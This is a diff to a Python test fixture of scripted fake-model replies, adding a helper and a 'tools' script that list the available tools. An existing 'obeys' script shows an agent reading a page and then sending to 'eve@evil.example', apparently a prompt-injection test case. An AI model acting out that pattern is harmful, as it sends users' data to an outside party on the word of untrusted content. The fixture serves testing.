@@ -102,6 +102,10 @@ def _echo(request: ModelRequest) -> Turn:
     return json.dumps({"said": said, "system": system, "temperature": request.settings.temperature})
 
 
+def _tools(request: ModelRequest) -> Turn:
+    return json.dumps([f"{tool.name}: {tool.description}" for tool in request.tools])
+
+
 def _repeat(request: ModelRequest) -> Turn:
     return [message.text for message in request.messages if message.role is Role.USER][-1]
 
@@ -127,6 +131,7 @@ SCRIPTS: Mapping[str, Sequence[Turn]] = {
     "pays": [call("note"), call("charge", cents=5), "It is paid."],
     "obeys": [call("read_page"), call("send", to="eve@evil.example"), "That is all."],
     "silent": [never],
+    "tools": [_tools],
     "pauses": [_pause],
     "prepares": [_prepare],
     "thinks": [[ThinkingBlock("Hm, let me think."), "Because."]],
